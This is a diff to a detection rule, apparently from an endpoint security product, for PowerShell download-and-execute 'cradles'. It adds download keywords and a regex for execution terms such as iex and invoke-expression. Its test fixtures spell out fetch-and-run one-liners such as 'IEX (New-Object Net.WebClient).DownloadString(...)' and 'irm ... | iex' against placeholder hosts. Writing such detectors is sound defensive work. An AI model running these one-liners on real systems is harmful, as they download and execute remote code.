@@ -50,10 +50,11 @@ detector 'powershell-download-cradle' do
   severity :high
   attack   'T1059.001', 'T1105'
   match process_is_likely?('powershell', 'pwsh', 'cmd') &&
-        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['net.webclient', 'downloadstring', 'downloaddata', 'downloadfile', 'invoke-webrequest', 'start-bitstransfer', 'iwr ']) &&
-        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['iex', 'invoke-expression', 'start-process', '.invoke(', '| %', '-join'])
+        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['net.webclient', 'downloadstring', 'downloaddata', 'downloadfile', 'invoke-webrequest', 'invoke-restmethod', 'start-bitstransfer', 'iwr ', 'irm ', 'curl ']) &&
+        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(iex|invoke-expression|start-process)\b|\.invoke\(|\| ?%|-join/i])
   fires_on 'the classic', process_start(process_name: 'powershell.exe', command_line: "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
-  ignores  'a download alone', process_start(process_name: 'powershell.exe', command_line: 'powershell Invoke-WebRequest https://x/a.msi -OutFile a.msi')
+  fires_on 'the short form', process_start(process_name: 'powershell.exe', command_line: 'powershell -c "irm https://x/a.ps1 | iex"')
+  ignores  'a download alone', process_start(process_name: 'powershell.exe', command_line: 'powershell Invoke-WebRequest https://x/iexplore.msi -OutFile a.msi')
 end
 
 detector 'powershell-inject-functions' do
